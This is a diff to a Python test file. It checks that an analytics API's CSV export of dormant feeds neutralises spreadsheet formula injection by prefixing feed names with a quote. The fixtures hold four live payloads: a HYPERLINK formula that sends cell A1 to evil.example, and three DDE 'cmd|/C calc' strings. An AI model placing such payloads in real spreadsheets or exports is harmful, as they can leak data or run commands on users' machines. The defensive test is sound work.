@@ -56,6 +56,13 @@ FEEDS = 12
 NEVER_RETRIEVED = {"feed-10", "feed-11"}
 OFFLINE = "feed-8"
 NEVER_ONLINE = {"feed-9", "feed-10", "feed-11"}
+# Names a spreadsheet would run as formulas, on feeds every dormant-feeds answer lists.
+FORMULA_NAMES = {
+    OFFLINE: '=HYPERLINK("http://evil.example/?"&A1,"details")',
+    "feed-9": "+cmd|' /C calc'!A0",
+    "feed-10": "-2+3+cmd|' /C calc'!A0",
+    "feed-11": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
 CITY_TIMEZONE = "Asia/Shanghai"
 
 
@@ -90,6 +97,8 @@ def build_city(now: datetime) -> City:
             sharing_class=("unconditional", "conditional", "not_shared")[index % 3],
             status="unknown" if feed_id in NEVER_ONLINE else "online",
         )
+        if feed_id in FORMULA_NAMES:
+            city.feeds[feed_id]["name"] = FORMULA_NAMES[feed_id]
     window = (now - timedelta(days=30), now + timedelta(days=30))
     granted = city.grants
     for _ in range(300):
@@ -641,6 +650,26 @@ async def test_csv_export_holds_the_same_rows(callers: tuple[Callers, City]) -> 
         assert len(table) == len(as_json), path
         if as_json:
             assert list(table[0]) == list(as_json[0]), path
+
+
+async def test_csv_export_neutralises_names_a_spreadsheet_would_run_as_formulas(
+    callers: tuple[Callers, City],
+) -> None:
+    people, city = callers
+    params = period(city, days=9)
+    as_json = (await people.operator.get("/v1/analytics/dormant-feeds", params=params)).json()
+    response = await people.operator.get(
+        "/v1/analytics/dormant-feeds", params=params, headers={"Accept": "text/csv"}
+    )
+    assert response.status_code == 200
+    table = {row["feed_id"]: row for row in csv.DictReader(io.StringIO(response.text))}
+    assert set(FORMULA_NAMES) <= set(table)
+    for feed_id, name in FORMULA_NAMES.items():
+        assert table[feed_id]["name"] == "'" + name, table[feed_id]
+    # JSON answers carry the names as they are; numbers stay numbers in the CSV
+    names = {row["feed_id"]: row["name"] for row in as_json["rows"]}
+    assert all(names[feed_id] == name for feed_id, name in FORMULA_NAMES.items())
+    assert all(row["retrievals"].isdigit() for row in table.values())
 
 
 async def test_analytics_parameters_are_validated(callers: tuple[Callers, City]) -> None:
